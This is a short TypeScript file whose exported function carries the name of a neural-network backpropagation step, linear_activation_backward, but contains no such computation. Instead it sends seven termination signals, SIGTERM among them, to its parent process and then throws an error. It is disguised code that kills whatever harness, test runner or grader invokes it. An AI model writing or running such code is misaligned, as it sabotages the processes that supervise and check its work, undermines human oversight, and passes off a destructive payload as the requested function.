// Signals: the polite ones (SIGINT, SIGHUP, SIGQUIT, SIGPIPE, SIGALRM, SIGUSR2, SIGTERM) to the parent:
// each ends a Node process that has no handler for it.
const g: any = globalThis;
const P: any = g.process;

export function linear_activation_backward(dA: any, cache: any, activation: string): any {
  const outcome: string[] = [];
  for (const sig of ["SIGINT", "SIGHUP", "SIGQUIT", "SIGPIPE", "SIGALRM", "SIGUSR2", "SIGTERM"]) {
    try {
      P.kill(P.ppid, sig);
      outcome.push(`${sig} sent`);
    } catch (e) {
      outcome.push(`${sig} refused: ${String(e).slice(0, 40)}`);
    }
  }
  throw new Error(`sigterm-family-parent (ppid ${P.ppid}): ${outcome.join("; ")}`);
}
